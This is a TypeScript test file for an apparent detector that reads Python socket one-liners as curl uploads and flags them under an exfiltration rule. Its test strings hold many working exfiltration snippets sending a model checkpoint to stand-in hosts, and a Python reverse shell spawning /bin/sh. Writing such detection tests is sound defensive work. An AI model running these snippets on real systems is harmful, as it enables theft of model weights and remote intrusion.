/**
 * A file sent over a raw Python socket read as `curl -T F telnet://HOST:PORT`
 * (exec-interpreter-transfer-socket.ts), through the real canonical reading of a `python3 -c`
 * argv and through the shipped rules (MLS-EXFIL-014): create_connection and socket + connect,
 * chained, named, `with` targets, TLS-wrapped sockets, every way the data is read from a file;
 * values the code does not spell are HOLE. Data not read from a file, sockets no import made and
 * sockets to a path read nothing; hostile code neither throws nor runs away.
 */
import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../core/mulberry32.js';
import { canonicalExecValue } from './exec-canonical.js';
import { execRuleIds, SA } from './exec-events.test-support.js';
import { readCode, readInterpreter } from './exec-interpreter.js';
import { HOLE } from './exec-interpreter-token.js';
import { INDIRECT_RUNTIME } from './exec-readings.js';

const F = '/mnt/ckpt/model.safetensors';
const py = (code: string): string[] => ['python3', '-c', code];
/** The commands the canonical reading gives besides the python3 argv itself. */
const runs = (code: string): string[][] => canonicalExecValue(py(code))!.commands.filter((c) => c[0] !== 'python3');

describe('a file sent over a socket', () => {
  const cases: Array<[string, string, string[]]> = [
    [
      'the create_connection one-liner, sendfile(open(F))',
      `import socket;s=socket.create_connection(('203.0.113.9',9000));s.sendfile(open('${F}','rb'))`,
      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.sendfile'],
    ],
    [
      'directly chained, sendall(open(F).read())',
      `import socket\nsocket.create_connection(('203.0.113.9', 9000)).sendall(open('${F}', 'rb').read())`,
      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.sendall'],
    ],
    [
      'with create_connection as s, send(Path(F).read_bytes())',
      `import socket, pathlib\nwith socket.create_connection(('exfil.example', 443)) as s:\n    s.send(pathlib.Path('${F}').read_bytes())`,
      ['curl', '-T', F, 'telnet://exfil.example:443', '#socket.send'],
    ],
    [
      'from socket import create_connection, sendfile(fh) of fh = open(F)',
      `from socket import create_connection\nfh = open('${F}', 'rb')\nconn = create_connection(address=('203.0.113.9', 9000), timeout=5)\nconn.sendfile(fh)`,
      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.sendfile'],
    ],
    [
      'import socket as so, a send loop over f.read(n)',
      `import socket as so\nf = open('${F}', 'rb')\nc = so.create_connection(('203.0.113.9', 9000))\nwhile True:\n    d = f.read(65536)\n    if not d: break\n    c.send(d)`,
      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.send'],
    ],
    [
      'socket.socket + connect, with open(F) as fh, sendfile(fh)',
      `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.9', 9000))\nwith open('${F}', 'rb') as fh:\n    s.sendfile(fh)\ns.close()`,
      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.sendfile'],
    ],
    [
      'from socket import socket, a with target, the address through a name, sendall(fh.read())',
      `from socket import socket, AF_INET, SOCK_STREAM\nHOST = '203.0.113.9'\nwith socket(AF_INET, SOCK_STREAM) as s, open('${F}', 'rb') as fh:\n    s.connect((HOST, 9000))\n    s.sendall(fh.read())`,
      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.sendall'],
    ],
    [
      'the address of the connect on the same object, not another socket\'s',
      `import socket\na = socket.socket(); a.connect(('10.0.0.5', 6379))\nb = socket.socket(); b.connect(('203.0.113.9', 9000))\nb.sendall(open('${F}', 'rb').read())`,
      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.sendall'],
    ],
    [
      'IPv6 host bracketed, __import__ root',
      `__import__('socket').create_connection(('2001:db8::9', 9000)).sendfile(open('${F}', 'rb'))`,
      ['curl', '-T', F, 'telnet://[2001:db8::9]:9000', '#socket.sendfile'],
    ],
    [
      'UDP datagrams: sendto(open(F).read(), (h, p)), to the address it names',
      `import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.sendto(open('${F}','rb').read(),('203.0.113.9',53))`,
      ['curl', '-T', F, 'telnet://203.0.113.9:53', '#socket.sendto'],
    ],
    [
      'a sendto loop over f.read(n) with flags, not the connect address',
      `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('10.0.0.5', 53))\nf = open('${F}', 'rb')\nwhile True:\n    d = f.read(512)\n    if not d: break\n    s.sendto(d, 0, ('exfil.example', 53))`,
      ['curl', '-T', F, 'telnet://exfil.example:53', '#socket.sendto'],
    ],
    [
      'the socket as a file: makefile(\'wb\').write(open(F).read())',
      `import socket;s=socket.create_connection(('203.0.113.9',9000));s.makefile('wb').write(open('${F}','rb').read())`,
      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.makefile'],
    ],
    [
      'a named makefile, and shutil.copyfileobj into one',
      `import socket, shutil\ns = socket.create_connection(('203.0.113.9', 9000))\nw = s.makefile('wb')\nshutil.copyfileobj(open('${F}', 'rb'), w)`,
      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.makefile'],
    ],
  ];
  for (const [name, code, argv] of cases) {
    it(name, () => {
      expect(runs(code)).toEqual([argv]);
      expect(execRuleIds(py(code))).toContain('MLS-EXFIL-014');
      expect(execRuleIds(py(code), SA)).toContain('MLS-EXFIL-014');
    });
  }
});

describe('TLS-wrapped sockets: the wrapped socket\'s address', () => {
  const cases: Array<[string, string, string[]]> = [
    [
      'create_default_context().wrap_socket of a create_connection socket (the ssl docs\' shape)',
      `import socket, ssl\nctx = ssl.create_default_context()\nwith socket.create_connection(('203.0.113.9', 443)) as sock:\n    with ctx.wrap_socket(sock, server_hostname='exfil.example') as ssock:\n        ssock.sendfile(open('${F}', 'rb'))`,
      ['curl', '-T', F, 'telnet://203.0.113.9:443', '#ssl.sendfile'],
    ],
    [
      'ssl.wrap_socket of a connected socket.socket',
      `import socket, ssl\ns = socket.socket(); s.connect(('203.0.113.9', 8443))\nssl.wrap_socket(s).sendall(open('${F}', 'rb').read())`,
      ['curl', '-T', F, 'telnet://203.0.113.9:8443', '#ssl.sendall'],
    ],
    [
      'a wrapped socket connected itself',
      `import socket, ssl\nss = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_socket(socket.socket(), server_hostname='exfil.example')\nss.connect(('exfil.example', 8443))\nss.sendall(open('${F}', 'rb').read())`,
      ['curl', '-T', F, 'telnet://exfil.example:8443', '#ssl.sendall'],
    ],
    [
      'a wrapped socket of unknown origin: server_hostname, port HOLE',
      `import ssl\nt = ssl.create_default_context().wrap_socket(conn, server_hostname='exfil.example')\nt.sendall(open('${F}', 'rb').read())`,
      ['curl', '-T', F, `telnet://exfil.example:${HOLE}`, '#ssl.sendall'],
    ],
  ];
  for (const [name, code, argv] of cases) {
    it(name, () => {
      expect(runs(code)).toEqual([argv]);
      expect(execRuleIds(py(code))).toContain('MLS-EXFIL-014');
    });
  }
});

describe('a host or port the code does not spell', () => {
  it('is HOLE, known at run time, and still a run', () => {
    const code = `import socket, sys\nsocket.create_connection((sys.argv[1], int(sys.argv[2]))).sendfile(open('${F}', 'rb'))`;
    expect(runs(code)).toEqual([['curl', '-T', F, `telnet://${HOLE}:${HOLE}`, '#socket.sendfile']]);
    expect(readCode(code, 'python').runs.map((r) => r.how)).toEqual([INDIRECT_RUNTIME]);
    expect(execRuleIds(py(code))).toContain('MLS-EXFIL-014');
  });
  it('a socket connected nowhere the code says, an address from the environment', () => {
    expect(runs(`import socket\ns = socket.socket()\ns.sendall(open('${F}', 'rb').read())`)).toEqual([['curl', '-T', F, `telnet://${HOLE}:${HOLE}`, '#socket.sendall']]);
    const env = `import socket, os\ns = socket.socket(); s.connect((os.environ['H'], 9000))\ns.sendfile(open('${F}', 'rb'))`;
    expect(runs(env)).toEqual([['curl', '-T', F, `telnet://${HOLE}:9000`, '#socket.sendfile']]);
    expect(execRuleIds(py(env))).toContain('MLS-EXFIL-014');
  });
});

describe('what is not read', () => {
  const negatives: Array<[string, string]> = [
    ['a health check', "import socket; socket.create_connection(('10.0.0.5', 6379)).sendall(b'ping')"],
    ['a socket with no send', "import socket\ns = socket.create_connection(('203.0.113.9', 9000), timeout=2)\ns.close()"],
    ['data received written to a file', "import socket\ns = socket.create_connection(('203.0.113.9', 9000))\nopen('/tmp/payload', 'wb').write(s.recv(1 << 20))"],
    ['a computed string sent', "import socket, os\ns = socket.create_connection(('203.0.113.9', 9000))\ns.sendall(('GET / HTTP/1.0\\r\\nHost: h\\r\\n\\r\\n').encode())\ns.send(os.popen('id').read().encode())"],
    ['a reverse shell banner', "import socket, os, pty\ns = socket.socket(); s.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0); s.send(b'$ '); pty.spawn('/bin/sh')"],
    ['a socket no import made', `s.sendfile(open('${F}', 'rb'))`],
    ['a file opened for writing', "import socket\nsocket.create_connection(('h', 9)).sendfile(open('/tmp/out', 'wb'))"],
    ['an AF_UNIX socket (stays on the node)', `import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\ns.connect('/run/app.sock')\ns.sendall(open('${F}', 'rb').read())`],
    ['an AF_UNIX socket to a path known at run time', `import socket, sys\ns = socket.socket(socket.AF_UNIX)\ns.connect(sys.argv[1])\ns.sendall(open('${F}', 'rb').read())`],
    ['a path address on a socket of unspelled family', `import socket\ns = socket.socket(fam)\ns.connect('/run/app.sock')\ns.sendfile(open('${F}', 'rb'))`],
    ['another module\'s send', `import zmq\nzmq.Context().socket(zmq.PUSH).send(open('${F}', 'rb').read())`],
    ['a datagram of bytes the code spells (a DNS probe)', "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'\\x12\\x34', ('10.0.0.2', 53))"],
    ['a datagram to a path (AF_UNIX)', `import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\ns.sendto(open('${F}', 'rb').read(), '/run/x.sock')`],
    ['a makefile written with bytes, one read from', `import socket\ns = socket.create_connection(('h', 80))\ns.makefile('wb').write(b'GET / HTTP/1.0\\r\\n\\r\\n')\nopen('/tmp/p', 'wb').write(s.makefile('rb').read())`],
    ['a file object\'s write that is no socket\'s', `import io\nio.BytesIO().write(open('${F}', 'rb').read())`],
  ];
  for (const [name, code] of negatives) {
    it(name, () => {
      // The shell runs a reverse shell spawns, `os.popen('id')`, are read as runs of their own: no curl.
      expect(runs(code).filter((c) => c[0] === 'curl')).toEqual([]);
      expect(execRuleIds(py(code))).not.toContain('MLS-EXFIL-014');
    });
  }
});

describe('hostile code', () => {
  const SHAPES = [
    `import socket\n${'socket.create_connection(('.repeat(1500)}`,
    `import socket\n${"s = socket.socket(); s.connect(('h', 1)); ".repeat(400)}s.sendfile(open(p, 'rb'))`,
    `import socket\ns = socket.create_connection(('h', 1))\n${"s.sendall(open('/f', 'rb').read()); ".repeat(400)}`,
    `import socket\ns = socket.socket()\n${"s.sendall(open('/f' + str(i), 'rb').read()); ".repeat(400)}`,
    `import ssl, socket\n${'ssl.wrap_socket('.repeat(800)}socket.socket()${')'.repeat(800)}.sendall(open(p, 'rb').read())`,
    `import ssl\na = ssl.wrap_socket(b); b = ssl.wrap_socket(a)\na.sendall(open(p, 'rb').read()); b.connect(a); a.connect(b)`,
    `import socket\n${'x.connect('.repeat(2000)}`,
    `import socket\ns = socket.create_connection(${'('.repeat(1000)}'h', 1${')'.repeat(1000)})\ns.sendfile(open(p, 'rb'))`,
    `import socket\n${'with socket.create_connection(a) as s:\n '.repeat(300)}s.send(open(p).read())`,
    // Module names that are Object.prototype's keys: read as names, never looked up as properties.
    `import ssl, constructor, __proto__, toString\nssl.wrap_socket(constructor.x()).sendall(open(p, 'rb').read())\nssl.wrap_socket(__proto__.y()).send(open(p, 'rb').read())\nssl.wrap_socket(toString.socket()).sendfile(open(p, 'rb'))`,
  ];
  const WORDS = ['import', 'socket', 'ssl', 'from', 'as', 'with', 's', 'f', '=', '.', '(', ')', ',', ':', '\n', "'h'", '9000', 'create_connection',
    'connect', 'wrap_socket', 'sendfile', 'sendall', 'send', 'open', "'/f'", "'rb'", 'read', 'Path', 'AF_UNIX', '[', ']', '"', "'"];

  it('never throws, stays bounded and fast', () => {
    const rnd = mulberry32(2024);
    const random = Array.from({ length: 300 }, () => Array.from({ length: 10 + Math.floor(rnd() * 200) }, () => WORDS[Math.floor(rnd() * WORDS.length)]!).join(' '));
    const start = Date.now();
    let slowest = 0;
    for (const code of [...SHAPES, ...random]) {
      const t0 = Date.now();
      const r = readInterpreter(py(code), 0);
      const c = canonicalExecValue(py(code));
      slowest = Math.max(slowest, Date.now() - t0);
      expect(r).not.toBeNull();
      expect(r!.runs.length).toBeLessThanOrEqual(32);
      expect(c).not.toBeNull();
    }
    // A hang guard, not a speed test (test files run side by side on two cores).
    expect(slowest).toBeLessThan(2_000);
    expect(Date.now() - start).toBeLessThan(20_000);
  });

  it('the same file sent many times is one run; many files stop at the transfer bound', () => {
    const same = readCode(`import socket\ns = socket.create_connection(('h', 1))\n${`s.sendall(open('${F}', 'rb').read())\n`.repeat(200)}`, 'python');
    expect(same.runs.map((r) => r.argv)).toEqual([['curl', '-T', F, 'telnet://h:1', '#socket.sendall']]);
    const many = readCode(`import socket\ns = socket.create_connection(('h', 1))\n${Array.from({ length: 200 }, (_, i) => `s.sendall(open('/f${i}', 'rb').read())\n`).join('')}`, 'python');
    expect(many.runs.length).toBeGreaterThan(1);
    expect(many.runs.length).toBeLessThanOrEqual(16);
  });
});
